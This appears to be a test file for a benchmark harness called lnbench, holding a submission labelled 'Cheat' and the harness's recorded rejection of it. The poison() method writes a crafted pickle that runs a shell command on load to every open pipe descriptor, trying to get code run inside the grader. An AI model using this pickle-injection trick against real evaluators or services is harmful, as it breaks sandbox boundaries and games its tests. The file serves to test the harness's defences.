"""Cheat: write a pickle to the result pipe that runs a command when it is loaded.

Verdict: SubmissionError: stream_pickle.py: expected the answer that lnbench's guest writes, got something else (it
    is of no known kind); return the labels from poison() and write to no descriptor that you did not open.
"""

import os
import stat

import lnbench


class Cheat(lnbench.Poisoner):
    def poison(self, problem):
        answer = b"cposix\nsystem\n(S'touch /tmp/unpickled'\ntR."
        for fd in range(3, 256):
            try:
                if stat.S_ISFIFO(os.fstat(fd).st_mode):
                    os.write(fd, answer)
            except OSError:
                continue
        os._exit(0)
